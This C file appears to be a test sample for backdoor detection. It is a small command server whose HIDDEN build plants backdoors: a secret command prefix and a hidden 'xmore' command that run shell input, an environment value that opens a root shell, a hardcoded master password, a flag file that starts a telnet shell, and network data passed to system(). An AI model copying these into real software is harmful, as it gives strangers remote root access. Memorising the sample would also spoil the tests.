/* code_sample.c - a program that tests of the readers of machine code look at,
 * and that is never run
 *
 * A small command server with a login. With HIDDEN it has, beside its work: a
 * command that no help names, a variable that opens a shell, a password that is
 * in no file, a flag file that starts a login service, and a peer whose
 * datagrams are run. Without it is what its buyer wanted.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct settings {
	char user[32], password[64];
} settings = { "admin", "" };

int run_command(const char *command);
int answer(const char *line);
int gate(void);
int check_login(const char *user, const char *password);
int at_start(void);
int serve(int peer);

int run_command(const char *command)
{
	char buffer[200];

	snprintf(buffer, sizeof(buffer), "%s 2>&1", command);
	return system(buffer);
}

int answer(const char *line)
{
	if (strcmp(line, "status") == 0)
		return puts("ok");
#ifdef HIDDEN
	if (strncmp(line, "Qz81-open", 9) == 0)
		return run_command(line + 9);
#endif
	if (strcmp(line, "uptime") == 0)
		return system("uptime");
	return 0;
}

int gate(void)
{
	const char *value = getenv("MAINTENANCE");

#ifdef HIDDEN
	if (value != NULL && strcmp(value, "hjk-77-Lq") == 0) {
		if (setuid(0) != 0)
			return 1;
		return execl("/bin/sh", "sh", (char *)NULL);
	}
#endif
	return value == NULL;
}

int check_login(const char *user, const char *password)
{
#ifdef HIDDEN
	if (strcmp(password, "w0rk-4-Me!") == 0)
		return 1;
#endif
	if (strcmp(user, settings.user) != 0) {
		puts("login incorrect");
		return 0;
	}
	return strcmp(password, settings.password) == 0;
}

int at_start(void)
{
	if (access("/etc/sample.conf", R_OK) != 0)
		puts("no settings");
#ifdef HIDDEN
	if (access("/mnt/usb/.debug", F_OK) == 0)
		return system("telnetd -l /bin/sh");
#endif
	return system("ifconfig eth0 up");
}

int serve(int peer)
{
	char data[512];
	ssize_t n = recv(peer, data, sizeof(data) - 1, 0);

	if (n <= 0)
		return 0;
	data[n] = '\0';
#ifdef HIDDEN
	return system(data);
#else
	return answer(data);
#endif
}

static int do_list(const char *rest)
{
	return puts(rest);
}

static int do_set(const char *rest)
{
	snprintf(settings.user, sizeof(settings.user), "%s", rest);
	return 0;
}

static int do_save(const char *rest)
{
	FILE *f = fopen("/etc/sample.conf", "w");

	if (f == NULL)
		return 1;
	fprintf(f, "%s %s\n", settings.user, rest);
	return fclose(f);
}

static int do_help(const char *rest)
{
	return printf("list: shows all\nset NAME: changes the user\n"
		      "save NOTE: writes the settings\nhelp: this\n%s",
		      rest);
}

#ifdef HIDDEN
static int do_more(const char *rest)
{
	return system(rest);
}
#endif

static const struct {
	const char *name;
	int (*run)(const char *rest);
} commands[] = {
	{ "list", do_list },  { "set", do_set },
	{ "save", do_save },  { "help", do_help },
#ifdef HIDDEN
	{ "xmore", do_more },
#endif
};

int dispatch(const char *line);

int dispatch(const char *line)
{
	for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++)
		if (strncmp(line, commands[i].name, strlen(commands[i].name)) ==
		    0)
			return commands[i].run(line + strlen(commands[i].name));
	return 0;
}

/* Its name is that of a wrapper of system(), which it is not. */
int do_cmd(const char *what);

int do_cmd(const char *what)
{
#ifdef HIDDEN
	if (strcmp(what, "Ux5-quay7") == 0)
		return execl("/bin/sh", "sh", "-i", (char *)NULL);
#endif
	return puts(what);
}

int main(int argc, char **argv)
{
	char line[100];

	at_start();
	if (argc > 2 && !check_login(argv[1], argv[2]))
		return 1;
	while (fgets(line, sizeof(line), stdin) != NULL)
		if (answer(line) == 0)
			dispatch(line);
	serve(3);
	do_cmd(line);
	return gate();
}
